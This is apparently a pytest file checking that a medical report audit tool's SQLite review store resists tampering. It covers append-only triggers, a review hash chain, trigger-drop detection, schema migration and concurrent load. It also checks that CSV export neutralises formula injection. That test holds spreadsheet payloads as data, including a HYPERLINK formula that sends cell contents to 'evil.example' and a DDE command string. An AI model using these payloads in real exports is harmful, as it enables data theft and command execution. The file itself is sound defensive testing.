"""The review store is tamper-evident (issue 14 finding 4): append-only tables that also refuse
REPLACE, integrity triggers checked on open, a hash chain over reviews checked by
``medmm store verify``; and it holds up under 8 concurrent reviewers plus an audit writer."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys

import pytest

from bench.store_load import FakeFlag, FakeResult
from medmm.audit.store import GENESIS, TRIGGERS, Store, StoreError, StudyRecord, review_hash
from medmm.runs import RunConfig

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


REPORT = "FINDINGS: Small left pleural effusion.\n\nIMPRESSION: Small right pleural effusion."


def _filled(path: str, n: int = 3) -> tuple[Store, list[int]]:
    """A store with ``n`` checked studies (one flag each) and two reviews."""
    s = Store(path)
    run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.5))
    for i in range(n):
        flag = FakeFlag("laterality", 52, 57, "right")
        assert s.record_result(run_id, key, StudyRecord(f"src-{i}", None, {"modality": "CT"}, REPORT), FakeResult(True, 0.9,
                                                                                                            (flag,)))
    s.finish_run(run_id)
    flags = [r[0] for r in s.conn.execute("SELECT id FROM flags ORDER BY id")]
    s.add_review("dr_a", "true_error", flag_id=flags[0], comment="yes")
    s.add_review("dr_b", "false_positive", flag_id=flags[min(1, n - 1)])
    return s, flags


def _raw(path: str) -> sqlite3.Connection:
    """What an attacker with the file uses: the sqlite3 defaults (recursive_triggers off), plus the chain's
    SQL functions (an attacker who read medmm's source can install them: without them every write to a
    chained table fails before any trigger runs, which would hide what the append-only triggers do)."""
    from medmm.audit import chain

    c = sqlite3.connect(path, isolation_level=None)
    assert c.execute("PRAGMA recursive_triggers").fetchone()[0] == 0
    chain.register(c)
    return c


def test_replace_cannot_rewrite_reviews_results_flags_reports(tmp_path):
    db = str(tmp_path / "a.sqlite")
    s, flags = _filled(db)
    review = s.conn.execute("SELECT id, flag_id, study_key, reviewer, decision, comment, at, prev_hash, row_hash "
                            "FROM reviews ORDER BY id LIMIT 1").fetchone()
    study_key = review[2]
    s.close()
    c = _raw(db)
    attacks = [
        ("INSERT OR REPLACE INTO reviews(id, flag_id, study_key, reviewer, decision, comment, at, prev_hash, row_hash) "
         "VALUES (?, ?, ?, ?, 'false_positive', ?, ?, ?, ?)", review[:4] + review[5:]),
        ("REPLACE INTO reviews(id, flag_id, study_key, reviewer, decision, comment, at, prev_hash, row_hash) "
         "VALUES (?, ?, ?, ?, 'uncertain', ?, ?, ?, ?)", review[:4] + review[5:]),
        ("UPDATE reviews SET decision='uncertain'", ()),
        ("DELETE FROM reviews", ()),
        ("REPLACE INTO flags(id, run_id, study_key, config_key, type, start, \"end\", text, explanation, confidence, "
         "evidence) SELECT id, run_id, study_key, config_key, type, start, \"end\", 'edited', explanation, 0.01, "
         "evidence FROM flags WHERE id = ?", (flags[0],)),
        ("UPDATE flags SET confidence=0.0", ()),
        ("DELETE FROM flags", ()),
        ("REPLACE INTO results(study_key, config_key, run_id, status, has_error, score, finished_at) "
         "SELECT study_key, config_key, run_id, status, 0, 0.0, finished_at FROM results WHERE study_key = ?",
         (study_key,)),
        ("UPDATE results SET has_error=0", ()),
        ("DELETE FROM results", ()),
        ("REPLACE INTO reports(study_key, text, sha256) VALUES (?, 'FINDINGS: Normal.', 'x')", (study_key,)),
        ("UPDATE reports SET text='FINDINGS: Normal.'", ()),
        ("INSERT OR REPLACE INTO studies(key, source_hash, created_at) VALUES (?, 'h', 0)", (study_key,)),
        ("UPDATE runs SET config='{}'", ()),
    ]
    before = {t: c.execute(f"SELECT * FROM {t} ORDER BY 1").fetchall()  # noqa: S608 - fixed names
              for t in ("reviews", "flags", "results", "reports", "studies", "runs")}
    for sql, params in attacks:
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            c.execute(sql, params)
    after = {t: c.execute(f"SELECT * FROM {t} ORDER BY 1").fetchall() for t in before}  # noqa: S608
    assert after == before
    c.close()
    with Store(db) as s:
        assert s.verify().ok


def test_review_chain_and_new_reviews_keep_it(tmp_path):
    db = str(tmp_path / "a.sqlite")
    s, flags = _filled(db)
    s.add_review("dr_c", "uncertain", study_key=s.conn.execute("SELECT key FROM studies LIMIT 1").fetchone()[0])
    rows = s.conn.execute("SELECT id, flag_id, study_key, reviewer, decision, comment, at, prev_hash, row_hash "
                          "FROM reviews ORDER BY id").fetchall()
    prev = GENESIS
    for r in rows:  # recomputed here from the columns, independently of Store.verify
        d = dict(zip(["id", "flag_id", "study_key", "reviewer", "decision", "comment", "at"], r[:7]))
        assert r[7] == prev
        assert r[8] == review_hash(prev, d)
        prev = r[8]
    report = s.verify()
    assert report.ok and report.reviews == 3 and report.head == prev
    # a review written around medmm (correct columns, no chain) is refused by the chain trigger
    with pytest.raises(sqlite3.IntegrityError, match="hash-chained"):
        s.conn.execute("INSERT INTO reviews(flag_id, study_key, reviewer, decision, at) "
                       "SELECT id, study_key, 'mallory', 'false_positive', 0 FROM flags LIMIT 1")
    s.close()


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "medmm.cli", *args], capture_output=True, text=True, timeout=120,
                          cwd=ROOT)


def test_dropped_trigger_is_noticed_on_open_and_by_verify(tmp_path):
    db = str(tmp_path / "a.sqlite")
    s, flags = _filled(db)
    s.close()
    c = _raw(db)
    c.execute("DROP TRIGGER reviews_append_only_update")
    c.close()
    with pytest.raises(StoreError, match="reviews_append_only_update is missing.*medmm store verify"):
        Store(db)
    run = _cli("store", "verify", "--db", db)
    assert run.returncode != 0 and "reviews_append_only_update is missing" in run.stdout + run.stderr
    # an administrator's deliberate repair
    run = _cli("store", "verify", "--db", db, "--restore-triggers")
    assert run.returncode == 0, run.stdout + run.stderr
    with Store(db) as s:
        assert s.verify().ok
    # a trigger replaced by a no-op of the same name is noticed too
    c = _raw(db)
    c.execute("DROP TRIGGER flags_append_only_update")
    c.execute("CREATE TRIGGER flags_append_only_update BEFORE UPDATE ON flags BEGIN SELECT 1; END")
    c.close()
    with pytest.raises(StoreError, match="flags_append_only_update was altered"):
        Store(db)


def test_verify_names_the_first_broken_review(tmp_path):
    db = str(tmp_path / "a.sqlite")
    s, flags = _filled(db)
    for i in range(3):
        s.add_review("dr_a", "uncertain", flag_id=flags[2], comment=f"n{i}")
    ids = [r[0] for r in s.conn.execute("SELECT id FROM reviews ORDER BY id")]
    s.close()
    run = _cli("store", "verify", "--db", db)
    assert run.returncode == 0, run.stdout + run.stderr
    assert f"{len(ids)} reviews" in run.stdout
    # the attacker drops the triggers and rewrites the third review's decision
    c = _raw(db)
    for name in TRIGGERS:
        c.execute(f"DROP TRIGGER {name}")
    c.execute("UPDATE reviews SET decision='false_positive' WHERE id=?", (ids[2],))
    c.execute("DELETE FROM reviews WHERE id=?", (ids[4],))
    c.close()
    run = _cli("store", "verify", "--db", db)
    assert run.returncode != 0
    assert f"review {ids[2]}" in run.stdout and "rewritten" in run.stdout
    with Store(db, check_triggers=False) as s:
        report = s.verify()
    assert report.broken_review == ids[2] and len(report.trigger_problems) == len(TRIGGERS)


def test_verify_notices_a_removed_review(tmp_path):
    db = str(tmp_path / "a.sqlite")
    s, flags = _filled(db)
    s.add_review("dr_a", "uncertain", flag_id=flags[2])
    ids = [r[0] for r in s.conn.execute("SELECT id FROM reviews ORDER BY id")]
    s.close()
    c = _raw(db)
    c.execute("DROP TRIGGER reviews_append_only_delete")
    c.execute("DELETE FROM reviews WHERE id=?", (ids[1],))
    c.execute(TRIGGERS["reviews_append_only_delete"])  # and puts the trigger back
    c.close()
    with Store(db) as s:
        report = s.verify()
    assert report.broken_review == ids[2] and "removed" in report.reason


def test_v3_store_migrates_to_v4_with_its_reviews_chained(tmp_path):
    """A store written by the v3 schema (reviews without hashes) is migrated in place."""
    from medmm.audit import store as store_mod

    db = str(tmp_path / "old.sqlite")
    c = sqlite3.connect(db, isolation_level=None)
    for v in (1, 2, 3):
        for stmt in store_mod._split_sql(store_mod._MIGRATIONS[v]):
            c.execute(stmt)
    c.execute("INSERT INTO meta VALUES ('schema_version', '3'), ('salt', ?)", ("ab" * 16,))
    c.execute("INSERT INTO studies(key, source_hash, created_at) VALUES ('S1', 'h1', 0)")
    for i, d in enumerate(("true_error", "uncertain")):
        c.execute("INSERT INTO reviews(study_key, reviewer, decision, at) VALUES ('S1', 'dr', ?, ?)", (d, float(i)))
    c.close()
    with Store(db) as s:
        assert s.schema_version == store_mod.SCHEMA_VERSION >= 6
        assert s.verify().ok and s.verify().reviews == 2
        assert s.verify().chain_entries == 2 + 1  # v6: the reviews written before it are chained; v8: the study
        s.add_review("dr", "false_positive", study_key="S1")
        assert s.verify().reviews == 3 and s.verify().ok


def test_store_keeps_the_first_report(tmp_path):
    s, _ = _filled(str(tmp_path / "a.sqlite"), n=1)
    run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.7))
    # a changed report is recorded as a failure of this study (the batch goes on), the stored report stays
    assert not s.record_result(run_id, key, StudyRecord("src-0", None, None, "FINDINGS: Normal."),
                               FakeResult(False, 0.1))
    assert "report differs" in s.conn.execute("SELECT reason FROM failures").fetchone()[0]
    assert s.conn.execute("SELECT text FROM reports").fetchone()[0] == REPORT
    run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.8))
    # same report under a new configuration: fine, and a second writer of the same result is a no-op
    assert s.record_result(run_id, key, StudyRecord("src-0", None, None, REPORT), FakeResult(False, 0.1))
    assert not s.record_result(run_id, key, StudyRecord("src-0", None, None, REPORT), FakeResult(False, 0.1))
    assert not s.record_failure(run_id, key, StudyRecord("src-0", None, None, REPORT), "load", "x")
    s.close()


def test_store_recursive_triggers_on(tmp_path):
    with Store(str(tmp_path / "a.sqlite")) as s:
        assert s.conn.execute("PRAGMA recursive_triggers").fetchone()[0] == 1
        assert json.loads(json.dumps(s.counts()))["reviews"] == 0


# ---------------------------------------------------------------- load: 8 reviewers + an audit writer
@pytest.mark.slow
def test_eight_reviewers_and_an_audit_for_10_seconds(tmp_path):
    """bench/store_load.py for 10 s: no lost or duplicated row, no 'database is locked' reaching a user."""
    from bench.store_load import run_load

    out = run_load(str(tmp_path / "load.sqlite"), seconds=10.0, reviewers=8)
    assert out["errors"] == [], out["errors"][:3]
    assert out["reviews_written"] > 8 * 5
    assert out["reviews_in_store"] == out["reviews_written"]  # none lost
    assert out["duplicate_reviews"] == 0
    assert out["results_in_store"] == out["results_written"] and out["results_written"] > 0
    assert out["verify_ok"]


def test_csv_export_quotes_formula_cells(tmp_path):
    """CSV formula injection: report text, explanations and reviewer names that start like a formula
    are exported with a leading quote, so a spreadsheet shows them as text."""
    import csv

    from medmm.audit.runner import export

    db = str(tmp_path / "a.sqlite")
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1"]
    with Store(db) as s:
        run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.5))
        for i, p in enumerate(payloads):
            report = p + " FINDINGS: effusion."
            flag = FakeFlag("laterality", 0, len(p), p, explanation=p)
            s.record_result(run_id, key, StudyRecord(f"f-{i}", None, None, report), FakeResult(True, 0.9, (flag,)))
        for fid in [r[0] for r in s.conn.execute("SELECT id FROM flags")]:
            s.add_review("=cmd()", "true_error", flag_id=fid)
    out = tmp_path / "x.csv"
    assert export(db, str(out)) == len(payloads)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["text"] for r in rows) == sorted("'" + p for p in payloads)
    assert all(r["explanation"] == r["text"] and r["reviewer"] == "'=cmd()" for r in rows)
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in r.values() if v), r
